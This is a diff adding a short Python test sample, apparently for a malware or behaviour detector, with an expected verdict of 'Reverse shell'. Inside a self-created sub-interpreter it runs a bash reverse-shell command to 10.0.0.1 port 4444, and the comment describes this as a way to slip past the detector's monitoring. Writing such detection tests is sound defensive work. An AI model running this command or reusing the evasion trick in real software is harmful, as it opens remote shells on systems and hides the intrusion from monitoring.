@@ -0,0 +1,11 @@
+# 在样本自行创建的子解释器中执行回连命令，子解释器没有detect状态
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell', 'Stage': '<stage-1>'
+import _xxsubinterpreters as interpreters
+
+interp = interpreters.create()
+interpreters.run_string(interp, """
+import os, re, time
+re.search("a", "a")
+time.sleep(1)
+os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
+""")